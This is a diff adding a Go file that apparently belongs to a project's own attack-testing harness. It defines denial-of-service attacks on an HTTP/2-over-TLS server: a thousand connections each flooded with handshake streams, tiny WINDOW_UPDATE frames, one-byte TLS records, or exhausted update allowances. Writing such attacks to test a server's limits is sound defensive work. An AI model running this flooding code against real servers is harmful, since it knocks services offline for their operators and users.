@@ -1,0 +1,103 @@
+//nolint:wrapcheck // errors of the framer end an attack, and nobody looks at them
+package kinds
+
+import (
+	"errors"
+	"net"
+	"time"
+
+	"golang.org/x/net/http2"
+
+	"github.com/masegraye/connect-plugin-go/internal/record"
+)
+
+const (
+	thousand  = 1_000 // connections
+	poured    = 250   // requests on each at once: as many as there may be streams
+	perTenth  = 9     // WINDOW_UPDATEs on each, every tenth of a second, as many as are free
+	allButFew = 4_990 // of them that are free at once
+)
+
+// manies are attacks on very many connections, each of which stays below what one may do, and with what TLS is read by.
+func manies() []Kind {
+	return []Kind{
+		{Who: Stranger, Name: "handshakes on a thousand connections", run: crowd(thousand, every(time.Second, (*conn).shakes))},
+		{Who: Stranger, Name: "WINDOW_UPDATEs on a thousand connections", run: crowd(thousand, every(tenth, (*conn).windows))},
+		{Who: Stranger, Name: "records of TLS: of a byte each on a thousand connections", run: crowd(thousand, every(tenth, (*conn).bytes))},
+		{Who: Stranger, Name: "connections that use up what is free", run: severally(flood(usedUp))},
+	}
+}
+
+// every does something again and again.
+func every(pause time.Duration, do func(*conn) error) func(*conn) error {
+	return func(c *conn) error {
+		tick := time.NewTicker(pause)
+		defer tick.Stop()
+		for {
+			if err := errors.Join(do(c), c.flush()); err != nil {
+				return c.lost(err)
+			}
+			select {
+			case <-tick.C:
+			case <-c.gone:
+				return errGone
+			case <-c.ctx.Done():
+				return nil
+			}
+		}
+	}
+}
+
+// shakes asks for so many identities at once, with proof of nothing.
+func (c *conn) shakes() error {
+	for range poured {
+		if err := c.more(); err != nil {
+			return err
+		}
+		id, err := c.open(c.typed(handshakePath, "application/proto"), false)
+		if err = errors.Join(err, c.WriteData(id, true, []byte{0x08, 0x01})); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// windows opens a window by little, in a record each time.
+func (c *conn) windows() error {
+	for range perTenth {
+		if err := errors.Join(c.more(), c.WriteWindowUpdate(0, 1), c.flush()); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// bytes does so in records of a byte.
+func (c *conn) bytes() error {
+	if c.records == nil {
+		var err error
+		const preface = 1 // records so far
+		if c.records, err = record.Client(c.tls, c.keys, preface); err != nil {
+			return err
+		}
+		c.records.Size = 1
+	}
+	f := http2.NewFramer(c.records, nil)
+	for range perTenth / 2 {
+		if err := errors.Join(c.more(), f.WriteWindowUpdate(0, 1)); err != nil {
+			return err
+		}
+	}
+	return c.records.Flush()
+}
+
+// usedUp sends what is free at once, each in a record of its own, and leaves before it would be cut off.
+func usedUp(c *conn, i uint32) error {
+	if i < allButFew {
+		return errors.Join(c.WriteWindowUpdate(0, 1), c.flush())
+	}
+	if raw, ok := c.tls.NetConn().(*net.TCPConn); ok {
+		_ = raw.CloseWrite()
+	}
+	return c.linger()
+}
